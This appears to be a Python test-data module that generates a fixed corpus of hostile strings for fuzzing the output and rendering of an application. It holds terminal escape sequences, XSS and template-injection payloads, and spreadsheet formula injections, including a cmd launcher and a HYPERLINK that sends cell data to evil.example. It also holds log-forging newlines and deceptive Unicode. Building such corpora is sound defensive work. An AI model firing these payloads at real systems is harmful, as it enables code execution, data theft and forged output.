"""Texts that attack whatever shows them: some five hundred, generated, the same in every run."""

from __future__ import annotations

from itertools import product

_CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
_INVISIBLE = [
    chr(code)
    for code in (
        *range(0x200B, 0x2010),
        *range(0x2028, 0x202F),
        *range(0x2060, 0x2070),
        0xAD,
        0x61C,
        0xFEFF,
        0xE0041,
        0xD800,
        0xDFFF,
    )
]
_TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[?1049h",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;x\x9c",
    "good\rEVIL",
    "good\nFORGED finding",
    "good\r\nFORGED",
    "a\x08\x08\x08b",
    "\x0e\x0f",
    "[bold red]x[/]",
    "[link=https://evil.example]x[/link]",
    "[/]",
    "\u202etxt.exe\u202c",
    "\u2066hidden\u2069",
    "name\u200badmin",
    "日本語のユーザー名" * 40,
    "👩‍👩‍👧‍👦" * 60,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 30,
    "e" + "\u0301" * 500,
    "\ud83d\ude00",
    "العربية والعبرية עברית",
]
_SCRIPTS = [
    "<script>window.__canary=1</script>",
    "</script><script>window.__canary=1</script>",
    "</style><script>window.__canary=1</script>",
    "</pre><img src=x onerror=window.__canary=1>",
    "</title><svg onload=window.__canary=1>",
    "--><script>window.__canary=1</script>",
    "]]><script>window.__canary=1</script>",
    "<img src=//evil.example/x.png>",
    '"><img src=x onerror=window.__canary=1>',
    "'><img src=x onerror=window.__canary=1>",
    '" onmouseover="window.__canary=1" x="',
    "' autofocus onfocus=window.__canary=1 x='",
    "` onload=window.__canary=1",
    "javascript:window.__canary=1",
    "JaVaScRiPt:window.__canary=1",
    "java\tscript:window.__canary=1",
    "data:text/html,<script>window.__canary=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://docs.aws.amazon.com@evil.example/",
    "https:\\\\evil.example",
    "https://[::1",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<iframe srcdoc='<script>parent.__canary=1</script>'>",
    "<form action=https://evil.example><input name=x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__canary=1>",
    "<details open ontoggle=window.__canary=1>",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&NewLine;javascript&colon;window.__canary=1",
    "\x00<script>window.__canary=1</script>",
    "<scr\x00ipt>window.__canary=1</scr\x00ipt>",
]
_FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "''",
    "a;=1+1;b",
    'a;"=1+1',
    "a,=1+1",
    'a","=1+1","',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]
_LINES = [
    '"}\n{"kind":"finding","version":1}',
    '\\"}\\n{"kind":"books"}',
    "\\",
    "\\u0000",
    "\u2028{}",
    "\u2029{}",
    "\x85{}",
    '"',
    "",
    " ",
    "x" * 20_000,
    "a;" * 5_000,
    "%s%n%d",
    "arn:aws:iam::1:user/\x1b[31m",
    "arn:aws:sts::222233334444:assumed-role/=1+1",
    "Mozilla/5.0 \x1b[2J" + "A" * 100,
]


def hostile_texts() -> list[str]:
    """Return the whole corpus."""
    base = _TERMINAL + _SCRIPTS + _FORMULAS + _LINES
    inside = [f"user{char}{tail}" for char, tail in product(_CONTROLS + _INVISIBLE, ("x", ""))]
    framed = [f"{before}{text}" for before, text in product(("x", "arn:"), base)]
    return base + inside + framed
